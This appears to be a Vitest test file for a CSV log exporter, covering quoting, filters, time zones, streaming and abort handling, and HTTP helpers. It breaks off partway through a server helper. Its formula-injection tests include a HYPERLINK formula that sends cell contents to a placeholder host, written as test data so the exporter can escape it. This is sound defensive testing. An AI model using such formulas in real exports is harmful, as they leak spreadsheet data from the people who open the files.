import { getEventListeners, once } from "node:events";
import { createServer, request, type IncomingMessage } from "node:http";
import type { AddressInfo } from "node:net";
import { Writable } from "node:stream";
import { pipeline } from "node:stream/promises";
import Papa from "papaparse";
import { afterEach, describe, expect, it } from "vitest";
import {
  CSV_HEADER,
  createTimestampFormatter,
  csvFileName,
  csvHttpHeaders,
  csvReadable,
  exportCsv,
  openCsvStream,
  type CsvExportOptions,
  type CsvSource,
} from "../../src/csv/index.js";
import { ErrorCodes, ValidationError } from "../../src/errors.js";
import { LogEventHub } from "../../src/hub.js";
import { DEFAULT_LIMITS } from "../../src/limits.js";
import { knownCategories, normalizeFilter } from "../../src/query.js";
import { MemoryStore } from "../../src/stores/memory/index.js";
import { toLogJson } from "../../src/logs/json.js";
import type { LogFilter, NewLogRecord, StoreLogFilter, StoreLogQuery } from "../../src/types.js";
import { seedLogResponse } from "../fixtures/seed.js";
import { seedCsvText, seedLogRecords } from "../fixtures/seed-logs.js";

const T0 = Date.UTC(2015, 2, 17, 17, 27, 6) * 1000; // epoch µs

async function collect(chunks: AsyncIterable<string>): Promise<string> {
  let out = "";
  for await (const chunk of chunks) out += chunk;
  return out;
}

async function chunksOf(chunks: AsyncIterable<string>): Promise<string[]> {
  const out: string[] = [];
  for await (const chunk of chunks) out.push(chunk);
  return out;
}

/** Parses an export back into rows of fields (header included). */
function parseCsv(csv: string): string[][] {
  const body = csv.startsWith("\uFEFF") ? csv.slice(1) : csv;
  expect(body.endsWith("\r\n")).toBe(true);
  const result = Papa.parse<string[]>(body.slice(0, -2), { header: false, newline: "\r\n" });
  expect(result.errors).toEqual([]);
  return result.data;
}

async function storeWith(records: readonly NewLogRecord[]): Promise<MemoryStore> {
  const store = new MemoryStore({ maxLogs: 1_000_000 });
  await store.appendLogs(records);
  return store;
}

function record(i: number, overrides: Partial<NewLogRecord> = {}): NewLogRecord {
  return { timeUs: T0 + i * 1_000_123, level: "INFO", category: "system", user: "alice", message: `message ${i}`, ...overrides };
}

/** A store wrapper that records every read, optionally holding reads until released. */
function observed(store: MemoryStore) {
  const queries: StoreLogQuery[] = [];
  let lastLogIdCalls = 0;
  const source: CsvSource = {
    queryLogs(query) {
      queries.push(query);
      return store.queryLogs(query);
    },
    lastLogId() {
      lastLogIdCalls++;
      return store.lastLogId();
    },
  };
  return { source, queries, lastLogIdCalls: () => lastLogIdCalls };
}

/** Lets every pending microtask, immediate and short timer run. */
async function settle(): Promise<void> {
  for (let i = 0; i < 5; i++) await new Promise((resolve) => setTimeout(resolve, 5));
}

describe("the seed's CSV sample", () => {
  it("is reproduced byte for byte from the same records (all 52 rows)", async () => {
    expect(seedLogRecords).toHaveLength(52);
    const store = await storeWith(seedLogRecords);
    expect(await collect(exportCsv(store, {}))).toBe(seedCsvText);
  });

  it("is the same whatever the page size", async () => {
    const store = await storeWith(seedLogRecords);
    for (const batchSize of [1, 5, 51, 52, 53]) {
      expect(await collect(exportCsv(store, {}, { batchSize }))).toBe(seedCsvText);
    }
  });

  it("holds the records of the seed's JSON example, so the sample's times are UTC", async () => {
    const store = await storeWith(seedLogRecords);
    const newest = await store.queryLogs({ order: "desc", limit: 5 });
    expect(newest.map(toLogJson)).toEqual(seedLogResponse);
  });

  it("is produced through the hub, filter and time zone included", async () => {
    const hub = new LogEventHub({ store: new MemoryStore(), timeZone: "UTC" });
    try {
      for (const r of seedLogRecords) {
        await hub.log({ level: r.level, category: r.category as "system", user: r.user, message: r.message, timeUs: r.timeUs });
      }
      expect(await collect(hub.exportCsv())).toBe(seedCsvText);
      const exports = await collect(hub.exportCsv({ category: "export", level: "info", timeEnd: 1426613379 }));
      expect(parseCsv(exports).slice(1).map((row) => row[4])).toEqual([
        "Start to export container (lxc, utest) to (/test/c.tgz)",
        "Export task logs are cleared",
        "Finished export container (lxc, utest) to (/test/c.tgz) (return=0)",
        "Start to export container (docker, 08fd4fac14b8, DockerTestAPI) to (/test/d.tgz)",
      ]);
      const berlin = await collect(hub.exportCsv({ limit: 1 }, { timeZone: "Europe/Berlin" }));
      expect(berlin).toBe(`${CSV_HEADER}\r\n2015-03-17 18:27:06.452144,INFO,container,Anonymous,"Destroy container (lxc, utest)"\r\n`);
      expect(() => hub.exportCsv({ level: "DEBUG" })).toThrow(ValidationError);
    } finally {
      await hub.close();
    }
  });
});

describe("format", () => {
  it("writes the header alone for an empty store or no match", async () => {
    expect(await collect(exportCsv(new MemoryStore(), {}))).toBe(`${CSV_HEADER}\r\n`);
    const store = await storeWith([record(1)]);
    expect(await collect(exportCsv(store, { user: "nobody" }))).toBe(`${CSV_HEADER}\r\n`);
  });

  it("quotes only fields that need it and doubles quotes", async () => {
    const cases: [string, string][] = [
      ["plain text", "plain text"],
      ["a, b", '"a, b"'],
      ['say "hi"', '"say ""hi"""'],
      ["two\nlines", '"two\nlines"'],
      ["cr\rhere", '"cr\rhere"'],
      ["crlf\r\nhere", '"crlf\r\nhere"'],
      ["tab\tinside", "tab\tinside"],
      ["semi;colon 'single'", "semi;colon 'single'"],
    ];
    const store = await storeWith(cases.map(([message], i) => record(i, { message, timeUs: T0 })));
    const expected = cases.map(([, field]) => `2015-03-17 17:27:06.000000,INFO,system,alice,${field}\r\n`).join("");
    expect(await collect(exportCsv(store, {}))).toBe(`${CSV_HEADER}\r\n${expected}`);
  });

  it("quotes a value with a leading or trailing space (papaparse keeps such spaces safe from trimming readers)", async () => {
    const store = await storeWith([record(0, { message: " padded " }), record(1, { user: "bob " })]);
    const csv = await collect(exportCsv(store, {}));
    expect(csv).toContain(',alice," padded "\r\n');
    expect(csv).toContain(',"bob ",message 1\r\n');
    expect(parseCsv(csv).slice(1).map((row) => [row[3], row[4]])).toEqual([["alice", " padded "], ["bob ", "message 1"]]);
  });

  it("ends every line with CRLF and has no bare LF outside quoted fields", async () => {
    const store = await storeWith(seedLogRecords);
    const csv = await collect(exportCsv(store, {}));
    expect(csv.split("\r\n")).toHaveLength(seedLogRecords.length + 2);
    expect(csv.replace(/\r\n/g, "")).not.toMatch(/[\r\n]/);
  });

  it("puts a UTF-8 byte order mark first only when asked", async () => {
    const store = await storeWith([record(1, { message: "Größe" })]);
    const plain = await chunksOf(exportCsv(store, {}));
    const withBom = await chunksOf(exportCsv(store, {}, { bom: true }));
    expect(plain.join("")).toBe(withBom.join("").slice(1));
    expect([...Buffer.from(withBom.join(""), "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(Buffer.from(plain.join(""), "utf8").subarray(0, 4).toString()).toBe("Date");
    expect(await collect(exportCsv(new MemoryStore(), {}, { bom: true }))).toBe(`\uFEFF${CSV_HEADER}\r\n`);
  });

  it("round-trips non-ASCII text: every field parses back unchanged", async () => {
    const texts = [
      "Größe ändern: Übermaß",
      "コンテナを起動しました (lxc, utest)",
      "emoji 🐳📦 and a ZWJ family 👩‍👩‍👧",
      "עברית ומספרים 123",
      "combining e\u0301 and NFC é",
      'mixed "quotes", commas\r\nand lines ✓',
      "\u00a0no-break space edges\u00a0",
      "中文, \"引号\" and\nnewline",
    ];
    const records = texts.map((message, i) => record(i, { message, user: `用户${i}`, level: i % 2 ? "WARN" : "ERROR" }));
    const store = await storeWith(records);
    const format = createTimestampFormatter("UTC");
    for (const bom of [false, true]) {
      const rows = parseCsv(await collect(exportCsv(store, {}, { bom, batchSize: 3 })));
      expect(rows[0]).toEqual(CSV_HEADER.split(","));
      expect(rows.slice(1)).toEqual(records.map((r) => [format(r.timeUs), r.level, r.category, r.user, r.message]));
    }
  });
});

describe("filters (the same as queryLogs, no limit unless given)", () => {
  const users = ["alice", "bob", "Anonymous"];
  const levels = ["INFO", "WARN", "ERROR"] as const;
  const categories = ["container", "image", "backup", "system"];
  const records = Array.from({ length: 240 }, (_, i) =>
    record(i, {
      user: users[i % 3] as string,
      level: levels[i % 5 === 0 ? 2 : i % 2] as (typeof levels)[number],
      category: categories[i % 4] as string,
      message: i % 7 === 0 ? `Backup 100% done_${i} (a*b) [x]` : `Start container ${i}`,
    }),
  );
  const format = createTimestampFormatter("UTC");

  async function check(filter: LogFilter, expected: (r: NewLogRecord) => boolean): Promise<void> {
    const store = await storeWith(records);
    const storeFilter: StoreLogFilter = normalizeFilter(filter, knownCategories(undefined), DEFAULT_LIMITS);
    const rows = parseCsv(await collect(exportCsv(store, storeFilter, { batchSize: 16 })));
    const want = records.filter(expected);
    expect(want.length).toBeGreaterThan(0);
    expect(want.length).toBeLessThan(records.length);
    expect(rows.slice(1)).toEqual(want.map((r) => [format(r.timeUs), r.level, r.category, r.user, r.message]));
    expect(await store.countLogs(storeFilter)).toBe(want.length);
  }

  it("time range: inclusive bounds, time_end covering its whole second", async () => {
    const from = Math.floor(records[30]!.timeUs / 1e6);
    const to = Math.floor(records[90]!.timeUs / 1e6);
    await check({ timeStart: from, timeEnd: to }, (r) => r.timeUs >= from * 1e6 && r.timeUs < (to + 1) * 1e6);
  });

  it("user: exact match", async () => {
    await check({ user: "bob" }, (r) => r.user === "bob");
  });

  it("level: one or several, any case", async () => {
    await check({ level: "warn" }, (r) => r.level === "WARN");
    await check({ level: ["WARN", "error"] }, (r) => r.level !== "INFO");
  });

  it("category: one or several", async () => {
    await check({ category: "backup" }, (r) => r.category === "backup");
    await check({ category: ["image", "container"] }, (r) => r.category === "image" || r.category === "container");
  });

  it("text: case-insensitive literal substring, wildcards and regex characters plain", async () => {
    await check({ text: "BACKUP 100%" }, (r) => r.message.startsWith("Backup 100%"));
    await check({ text: "(a*b) [x]" }, (r) => r.message.includes("(a*b) [x]"));
  });

  it("all filters combine with AND", async () => {
    await check(
      { user: "alice", level: ["INFO", "WARN"], category: ["container", "backup"], text: "start" },
      (r) => r.user === "alice" && r.level !== "ERROR" && (r.category === "container" || r.category === "backup") && r.message.startsWith("Start"),
    );
  });

  it("limit caps the rows: the oldest matches, pages never asking for more than remain", async () => {
    const store = await storeWith(records);
    const { source, queries } = observed(store);
    const rows = parseCsv(await collect(exportCsv(source, { user: "bob" }, { limit: 25, batchSize: 10 })));
    expect(rows.slice(1).map((row) => row[4])).toEqual(records.filter((r) => r.user === "bob").slice(0, 25).map((r) => r.message));
    expect(queries.map((q) => q.limit)).toEqual([10, 10, 5]);
  });

  it("ignores paging fields smuggled into the filter", async () => {
    const store = await storeWith(records.slice(0, 10));
    const smuggled = { offset: 5, beforeId: 3, limit: 2, order: "desc" } as unknown as StoreLogFilter;
    const rows = parseCsv(await collect(exportCsv(store, smuggled)));
    expect(rows).toHaveLength(11);
  });
});

describe("formula injection", () => {
  const triggers = ["=", "+", "-", "@", "\t", "\r"];

  async function exportOne(fields: Partial<NewLogRecord>, options: CsvExportOptions = {}): Promise<string> {
    const store = await storeWith([record(0, fields)]);
    const csv = await collect(exportCsv(store, {}, options));
    return csv.slice(CSV_HEADER.length + 2, -2);
  }

  it.each(triggers)("neutralises %j as the first character in Message, User and Category", async (trigger) => {
    const value = `${trigger}SUM(A1:A9)`;
    const quoted = trigger === "\r";
    const expected = quoted ? `"'${value}"` : `'${value}`;
    expect(await exportOne({ message: value })).toBe(`2015-03-17 17:27:06.000000,INFO,system,alice,${expected}`);
    expect(await exportOne({ user: value })).toBe(`2015-03-17 17:27:06.000000,INFO,system,${expected},message 0`);
    expect(await exportOne({ category: value })).toBe(`2015-03-17 17:27:06.000000,INFO,${expected},alice,message 0`);
  });

  it.each(triggers)("neutralises %j also when the value holds line breaks", async (trigger) => {
    const value = `${trigger}HYPERLINK("http://x.test/?"&A1)\nsecond line\r\nthird`;
    const line = await exportOne({ message: value });
    expect(line).toBe(`2015-03-17 17:27:06.000000,INFO,system,alice,"'${value.replace(/"/g, '""')}"`);
    const rows = parseCsv(`${CSV_HEADER}\r\n${line}\r\n`);
    expect(rows[1]?.[4]).toBe(`'${value}`);
  });

  it("leaves harmless values as they are", async () => {
    const cases: [string, string][] = [
      ["Retry in -5 seconds", "Retry in -5 seconds"],
      ["temperature dropped to -12 C", "temperature dropped to -12 C"],
      ["a - b", "a - b"],
      ["x=1", "x=1"],
      ["user@example.com", "user@example.com"],
      ["A+B", "A+B"],
      ["'already quoted", "'already quoted"],
      [" =after a space", '" =after a space"'],
      ["", ""],
    ];
    for (const [message, field] of cases) {
      expect(await exportOne({ message })).toBe(`2015-03-17 17:27:06.000000,INFO,system,alice,${field}`);
    }
  });

  it("escapes a lone negative number, as OWASP advises for any leading minus", async () => {
    expect(await exportOne({ message: "-42" })).toBe("2015-03-17 17:27:06.000000,INFO,system,alice,'-42");
  });

  it("can be turned off", async () => {
    expect(await exportOne({ message: "=1+2", user: "@bob" }, { escapeFormulae: false })).toBe(
      "2015-03-17 17:27:06.000000,INFO,system,@bob,=1+2",
    );
    expect(await exportOne({ message: "\rcr" }, { escapeFormulae: false })).toBe('2015-03-17 17:27:06.000000,INFO,system,alice,"\rcr"');
  });

  it("never touches the Date and Level columns", async () => {
    const line = await exportOne({ level: "ERROR", message: "=x" });
    expect(line.startsWith("2015-03-17 17:27:06.000000,ERROR,")).toBe(true);
  });
});

describe("time zones", () => {
  /** An independent reference: Intl for the wall-clock second, then the microseconds. */
  function referenceFormatter(timeZone: string): { format(timeUs: number): string; offsetMs(ms: number): number } {
    const dtf = new Intl.DateTimeFormat("en-US", {
      timeZone,
      hourCycle: "h23",
      year: "numeric",
      month: "2-digit",
      day: "2-digit",
      hour: "2-digit",
      minute: "2-digit",
      second: "2-digit",
    });
    const partsAt = (ms: number) => Object.fromEntries(dtf.formatToParts(new Date(ms)).map((p) => [p.type, p.value]));
    return {
      format(timeUs) {
        const p = partsAt(Math.floor(timeUs / 1e6) * 1000);
        const micros = String(((timeUs % 1e6) + 1e6) % 1e6).padStart(6, "0");
        return `${String(p.year).padStart(4, "0")}-${p.month}-${p.day} ${p.hour}:${p.minute}:${p.second}.${micros}`;
      },
      offsetMs(ms) {
        const p = partsAt(ms);
        const local = new Date(0);
        local.setUTCFullYear(Number(p.year), Number(p.month) - 1, Number(p.day));
        local.setUTCHours(Number(p.hour), Number(p.minute), Number(p.second));
        return local.getTime() - ms;
      },
    };
  }

  const at = (iso: string, micros = 0) => Date.parse(iso) * 1000 + micros;

  it("handles Europe/Berlin's spring-forward and fall-back in 2015", async () => {
    const store = await storeWith([
      record(0, { timeUs: at("2015-03-29T00:59:59Z", 999_999) }),
      record(1, { timeUs: at("2015-03-29T01:00:00Z") }),
      record(2, { timeUs: at("2015-10-25T00:59:59Z", 999_999) }),
      record(3, { timeUs: at("2015-10-25T01:00:00Z") }),
      record(4, { timeUs: at("2015-10-25T01:30:00Z", 7) }),
    ]);
    const rows = parseCsv(await collect(exportCsv(store, {}, { timeZone: "Europe/Berlin" })));
    expect(rows.slice(1).map((row) => row[0])).toEqual([
      "2015-03-29 01:59:59.999999",
      "2015-03-29 03:00:00.000000",
      "2015-10-25 02:59:59.999999",
      "2015-10-25 02:00:00.000000",
      "2015-10-25 02:30:00.000007",
    ]);
  });

  it("agrees with Intl at random instants and at the exact second of transitions, odd offsets included", () => {
    const zones = [
      "UTC",
      "Europe/Berlin",
      "America/New_York",
      "America/St_Johns",
      "Asia/Kathmandu",
      "Australia/Lord_Howe",
      "Pacific/Chatham",
      "Africa/Monrovia",
      "Europe/Amsterdam",
      "Asia/Tokyo",
    ];
    let seed = 42;
    const random = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
    let transitions = 0;
    const mismatches: string[] = [];
    for (const zone of zones) {
      const reference = referenceFormatter(zone);
      const instants: number[] = [];
      for (let i = 0; i < 300; i++) instants.push(Math.floor((random() * 140 - 70) * 365.25 * 86_400e6) + Math.floor(random() * 1e6));
      // Find transitions by four-week steps (1900..2040), then the exact second of each by bisection.
      const week = 28 * 86_400_000; // DST periods last months: four-weekly steps still see every one
      let offset = reference.offsetMs(Date.UTC(1900, 0, 1));
      for (let ms = Date.UTC(1900, 0, 1); ms < Date.UTC(2040, 0, 1); ms += week) {
        const before = offset;
        offset = reference.offsetMs(ms + week);
        if (offset === before) continue;
        let lo = ms / 1000;
        let hi = (ms + week) / 1000;
        while (hi - lo > 1) {
          const mid = Math.floor((lo + hi) / 2);
          if (reference.offsetMs(mid * 1000) === before) lo = mid;
          else hi = mid;
        }
        transitions++;
        for (const delta of [-3600e6, -1e6, -1, 0, 1, 1e6, 3600e6]) instants.push(hi * 1e6 + delta);
      }
      // A fresh formatter per zone and order, so the hour cache is exercised both ways.
      for (const ordered of [instants, [...instants].sort((a, b) => a - b)]) {
        const format = createTimestampFormatter(zone);
        for (const timeUs of ordered) {
          const got = format(timeUs);
          const want = reference.format(timeUs);
          if (got !== want) mismatches.push(`${zone} ${timeUs}: ${got} != ${want}`);
        }
      }
    }
    expect(mismatches).toEqual([]);
    expect(transitions).toBeGreaterThan(500);
  });

  it("names the zone the caller sent in the error message", () => {
    expect(() => createTimestampFormatter("Mars/Olympus_Mons")).toThrow('Unknown time zone "Mars/Olympus_Mons"');
    expect(() => createTimestampFormatter("")).toThrow('"timeZone" must be an IANA time zone name such as "Europe/Berlin"');
  });

  it("refuses an unknown zone at once, before any store read", async () => {
    const { source, queries, lastLogIdCalls } = observed(await storeWith([record(0)]));
    for (const timeZone of ["Mars/Olympus_Mons", "", "Europe/Berlin "]) {
      let error: unknown;
      try {
        exportCsv(source, {}, { timeZone });
      } catch (e) {
        error = e;
      }
      expect(error).toBeInstanceOf(ValidationError);
      expect((error as ValidationError).code).toBe(ErrorCodes.VALIDATION);
      expect((error as ValidationError).param).toBe("timeZone");
    }
    expect(queries).toHaveLength(0);
    expect(lastLogIdCalls()).toBe(0);
  });

  it("formats in UTC when no zone is given", () => {
    expect(createTimestampFormatter()(T0 + 452_144)).toBe("2015-03-17 17:27:06.452144");
  });

  it("writes years 0..9999 with four digits and others in full, with their sign (UTC)", () => {
    const format = createTimestampFormatter("UTC");
    const yearStart = (year: number) => {
      const date = new Date(0);
      date.setUTCFullYear(year, 0, 1);
      return date.getTime() * 1000;
    };
    expect(format(yearStart(0))).toBe("0000-01-01 00:00:00.000000");
    expect(format(yearStart(1))).toBe("0001-01-01 00:00:00.000000");
    expect(format(yearStart(9999))).toBe("9999-01-01 00:00:00.000000");
    expect(format(yearStart(10000))).toBe("10000-01-01 00:00:00.000000");
    expect(format(yearStart(-1))).toBe("-1-01-01 00:00:00.000000");
  });

  it("accepts any case of a zone name", async () => {
    const store = await storeWith([record(0)]);
    const csv = await collect(exportCsv(store, {}, { timeZone: "asia/tokyo" }));
    expect(csv).toContain("2015-03-18 02:27:06.000000");
  });
});

describe("options", () => {
  it.each([
    [{ limit: 0 }, "limit"],
    [{ limit: -1 }, "limit"],
    [{ limit: 1.5 }, "limit"],
    [{ limit: "10" as unknown as number }, "limit"],
    [{ batchSize: 0 }, "batchSize"],
    [{ batchSize: 100_001 }, "batchSize"],
    [{ escapeFormulae: "no" as unknown as boolean }, "escapeFormulae"],
    [{ bom: 1 as unknown as boolean }, "bom"],
    [{ signal: {} as AbortSignal }, "signal"],
  ] as [CsvExportOptions, string][])("refuses %j synchronously", (options, param) => {
    expect(() => exportCsv(new MemoryStore(), {}, options)).toThrow(ValidationError);
    try {
      exportCsv(new MemoryStore(), {}, options);
    } catch (e) {
      expect((e as ValidationError).param).toBe(param);
    }
  });
});

describe("streaming", () => {
  it("reads the store in pages below a snapshot, one chunk per page", async () => {
    const store = await storeWith(Array.from({ length: 2500 }, (_, i) => record(i)));
    const { source, queries, lastLogIdCalls } = observed(store);
    const chunks = await chunksOf(exportCsv(source, {}));
    expect(chunks).toHaveLength(3);
    expect(chunks[0]!.startsWith(`${CSV_HEADER}\r\n`)).toBe(true);
    expect(chunks.map((c) => c.split("\r\n").length - 1)).toEqual([1001, 1000, 500]);
    expect(lastLogIdCalls()).toBe(1);
    expect(queries).toEqual([
      { order: "asc", afterId: 0, maxId: 2500, limit: 1000 },
      { order: "asc", afterId: 1000, maxId: 2500, limit: 1000 },
      { order: "asc", afterId: 2000, maxId: 2500, limit: 1000 },
    ]);
  });

  it("stops without an extra read when the last page is full", async () => {
    const store = await storeWith(Array.from({ length: 30 }, (_, i) => record(i)));
    const { source, queries } = observed(store);
    await collect(exportCsv(source, {}, { batchSize: 10 }));
    expect(queries).toHaveLength(3);
  });

  it("stops without an extra read after a short page, even below the snapshot", async () => {
    // Only the two oldest records match: the first page is short, and nothing else can match.
    const store = await storeWith(Array.from({ length: 30 }, (_, i) => record(i, { user: i < 2 ? "bob" : "alice" })));
    const { source, queries } = observed(store);
    const csv = await collect(exportCsv(source, { user: "bob" }, { batchSize: 10 }));
    expect(parseCsv(csv)).toHaveLength(3);
    expect(queries).toHaveLength(1);
  });

  it("passes the store only the filter fields that were given (no keys set to undefined)", async () => {
    const { source, queries } = observed(await storeWith([record(0)]));
    await collect(exportCsv(source, {}, { batchSize: 10 }));
    expect(Object.keys(queries[0]!).sort()).toEqual(["afterId", "limit", "maxId", "order"]);
    const all = { fromUs: 1, toUs: T0 * 2, user: "alice", levels: ["INFO"], categories: ["system"], text: "message" } as StoreLogFilter;
    await collect(exportCsv(source, all, { batchSize: 10 }));
    expect(queries[1]).toStrictEqual({ ...all, order: "asc", afterId: 0, maxId: 1, limit: 10 });
  });

  it("removes its abort listener after every page read, leaving a long-lived signal clean", async () => {
    const store = await storeWith(Array.from({ length: 25 }, (_, i) => record(i)));
    const controller = new AbortController();
    const iterator = exportCsv(store, {}, { batchSize: 10, signal: controller.signal });
    await iterator.next();
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
    await collect(iterator);
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
    // A failed read too.
    const failing: CsvSource = { lastLogId: () => store.lastLogId(), queryLogs: () => Promise.reject(new Error("disk on fire")) };
    await expect(collect(exportCsv(failing, {}, { signal: controller.signal }))).rejects.toThrow("disk on fire");
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
  });

  it("drops its abort listener when the signal aborts, even if the page read never ends", async () => {
    const store = await storeWith([record(0)]);
    const source: CsvSource = { lastLogId: () => store.lastLogId(), queryLogs: () => new Promise(() => undefined) };
    const controller = new AbortController();
    const pending = exportCsv(source, {}, { signal: controller.signal }).next();
    await settle();
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(1);
    controller.abort();
    await expect(pending).rejects.toMatchObject({ name: "AbortError" });
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
  });

  it("does not read ahead of a slow consumer", async () => {
    const store = await storeWith(Array.from({ length: 100 }, (_, i) => record(i)));
    const { source, queries, lastLogIdCalls } = observed(store);
    const iterator = exportCsv(source, {}, { batchSize: 10 });
    await settle();
    expect(lastLogIdCalls()).toBe(0); // nothing is read before the first request
    expect(queries).toHaveLength(0);
    for (let page = 1; page <= 3; page++) {
      const { done } = await iterator.next();
      expect(done).toBe(false);
      await settle(); // the consumer is busy; the producer must wait
      expect(queries).toHaveLength(page);
    }
    await iterator.return();
    expect(queries).toHaveLength(3);
  });

  it("ends the reads when the consumer breaks out of the loop", async () => {
    const store = await storeWith(Array.from({ length: 100 }, (_, i) => record(i)));
    const { source, queries } = observed(store);
    const iterator = exportCsv(source, {}, { batchSize: 10 });
    let seen = 0;
    for await (const _chunk of iterator) {
      if (++seen === 2) break;
    }
    await settle();
    expect(queries).toHaveLength(2);
    expect(await iterator.next()).toEqual({ done: true, value: undefined });
    expect(queries).toHaveLength(2);
  });

  it("ends the reads when the signal aborts between pages", async () => {
    const store = await storeWith(Array.from({ length: 100 }, (_, i) => record(i)));
    const { source, queries } = observed(store);
    const controller = new AbortController();
    const iterator = exportCsv(source, {}, { batchSize: 10, signal: controller.signal });
    await iterator.next();
    const reason = new Error("client went away");
    controller.abort(reason);
    await expect(iterator.next()).rejects.toBe(reason);
    await settle();
    expect(queries).toHaveLength(1);
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
  });

  it("rejects at once when the signal aborts while a page read is in flight", async () => {
    const store = await storeWith(Array.from({ length: 100 }, (_, i) => record(i)));
    let release!: () => void;
    const gate = new Promise<void>((resolve) => (release = resolve));
    let reads = 0;
    const source: CsvSource = {
      lastLogId: () => store.lastLogId(),
      async queryLogs(query) {
        reads++;
        await gate; // a slow database
        return store.queryLogs(query);
      },
    };
    const controller = new AbortController();
    const iterator = exportCsv(source, {}, { batchSize: 10, signal: controller.signal });
    const pending = iterator.next();
    await settle();
    expect(reads).toBe(1);
    controller.abort();
    await expect(pending).rejects.toMatchObject({ name: "AbortError" });
    release();
    await settle();
    expect(reads).toBe(1);
    expect(getEventListeners(controller.signal, "abort")).toHaveLength(0);
    expect(await iterator.next()).toEqual({ done: true, value: undefined });
  });

  it("reads nothing when the signal is already aborted", async () => {
    const { source, queries, lastLogIdCalls } = observed(await storeWith([record(0)]));
    const iterator = exportCsv(source, {}, { signal: AbortSignal.abort() });
    await expect(iterator.next()).rejects.toMatchObject({ name: "AbortError" });
    expect(lastLogIdCalls()).toBe(0);
    expect(queries).toHaveLength(0);
  });

  it("leaves out records appended during the export, and stays well-formed", async () => {
    const first = Array.from({ length: 50 }, (_, i) => record(i));
    const store = await storeWith(first);
    const expected = await collect(exportCsv(await storeWith(first), {}, { batchSize: 10 }));
    const iterator = exportCsv(store, {}, { batchSize: 10 });
    let csv = "";
    for await (const chunk of iterator) {
      csv += chunk;
      await store.appendLogs([record(1000, { message: "late, \"appended\"\nrecord" }), record(1001, { message: "=late" })]);
    }
    expect(csv).toBe(expected);
    expect(await store.lastLogId()).toBe(60);
  });

  it("copes with records cleared during the export: no duplicates, order kept", async () => {
    const store = await storeWith(Array.from({ length: 50 }, (_, i) => record(i, { user: i % 2 ? "odd" : "even" })));
    const iterator = exportCsv(store, {}, { batchSize: 10 });
    let csv = "";
    for await (const chunk of iterator) {
      csv += chunk;
      if (csv.length === chunk.length) await store.clearLogs({ user: "odd" });
    }
    const messages = parseCsv(csv).slice(1).map((row) => row[4]);
    const expected = [
      ...Array.from({ length: 10 }, (_, i) => `message ${i}`),
      ...Array.from({ length: 20 }, (_, i) => `message ${10 + 2 * i}`),
    ];
    expect(messages).toEqual(expected);
  });

  it("fails cleanly, not forever, on a store that breaks the paging contract", async () => {
    const store = await storeWith(Array.from({ length: 20 }, (_, i) => record(i)));
    const stuck: CsvSource = {
      lastLogId: () => store.lastLogId(),
      queryLogs: (query) => store.queryLogs({ ...query, afterId: 0 }),
    };
    await expect(collect(exportCsv(stuck, {}, { batchSize: 5 }))).rejects.toMatchObject({ code: ErrorCodes.INTERNAL });
  });

  it("refuses a page longer than asked for, or one that does not move forward, naming the fault", async () => {
    const store = await storeWith(Array.from({ length: 20 }, (_, i) => record(i)));
    const message = "The store answered an export page out of order";
    let reads = 0;
    const tooLong: CsvSource = {
      lastLogId: () => store.lastLogId(),
      queryLogs: (query) => (++reads > 5 ? Promise.resolve([]) : store.queryLogs({ ...query, limit: query.limit + 1 })),
    };
    await expect(collect(exportCsv(tooLong, {}, { batchSize: 5 }))).rejects.toMatchObject({ code: ErrorCodes.INTERNAL, message });
    expect(reads).toBe(1);
    reads = 0;
    const repeating: CsvSource = {
      lastLogId: () => store.lastLogId(),
      queryLogs: (query) => (++reads > 5 ? Promise.resolve([]) : store.queryLogs({ ...query, afterId: 0 })),
    };
    await expect(collect(exportCsv(repeating, {}, { batchSize: 5 }))).rejects.toMatchObject({ code: ErrorCodes.INTERNAL, message });
    expect(reads).toBe(2);
  });
});

describe("HTTP helpers", () => {
  const servers: { close(): void }[] = [];
  afterEach(() => {
    for (const server of servers.splice(0)) server.close();
  });

  it("csvReadable pulls a chunk only when the writer drains", async () => {
    const store = await storeWith(Array.from({ length: 500 }, (_, i) => record(i)));
    const { source, queries } = observed(store);
    const written: Buffer[] = [];
    let unblock: (() => void) | undefined;
    const slow = new Writable({
      highWaterMark: 1024,
      write(chunk: Buffer, _encoding, callback) {
        written.push(chunk);
        unblock = callback; // the "client" does not read on
      },
    });
    const done = pipeline(csvReadable(exportCsv(source, {}, { batchSize: 10 })), slow);
    await settle();
    const stalled = queries.length;
    expect(stalled).toBeLessThanOrEqual(3);
    await settle();
    expect(queries.length).toBe(stalled);
    // Drain everything from here on; the export then runs to the end.
    const release = () => {
      const cb = unblock;
      unblock = undefined;
      cb?.();
    };
    const interval = setInterval(release, 1);
    try {
      await done;
    } finally {
      clearInterval(interval);
    }
    expect(Buffer.concat(written).toString("utf8")).toBe(await collect(exportCsv(store, {}, { batchSize: 10 })));
  });

  it("a destroyed csvReadable ends the export's reads", async () => {
    const store = await storeWith(Array.from({ length: 500 }, (_, i) => record(i)));
    const { source, queries } = observed(store);
    const readable = csvReadable(exportCsv(source, {}, { batchSize: 10 }));
    const [first] = (await once(readable, "data")) as [Buffer];
    expect(first.toString().startsWith(CSV_HEADER)).toBe(true);
    readable.destroy();
    await once(readable, "close");
    await settle();
    const count = queries.length;
    expect(count).toBeLessThan(50);
    await settle();
    expect(queries.length).toBe(count);
  });

  async function serve(source: CsvSource, options: CsvExportOptions = {}): Promise<{ port: number; finished: Promise<unknown> }> {
    let settleFinished!: (value: unknown) => void;
    const finished = new Promise((resolve) => (settleFinished = resolve));
    const server = createServer(async (_req, res) => {
      const controller = new AbortController();
      res.on("close", () => controller.abort());
      try {
        const body = await openCsvStream(exportCsv(source, {}, { ...options, signal: controller.signal }));
        res.writeHead(200, csvHttpHeaders({ at: Date.UTC(2015, 2, 17, 17, 30, 12) }));
        await pipeline(body, res);
        settleFinished("completed");
      } catch (error) {
        if (!res.headersSent) {
          res.writeHead(503, { "Content-Type": "application/json" }).end(JSON.stringify({ error: { code: "STORE_UNAVAILABLE" } }));
        } else {
          res.destroy();
        }
        settleFinished(error);
      }
    });
    servers.push(server);
    server.listen(0, "127.0.0.1");
    await once(server, "listening");
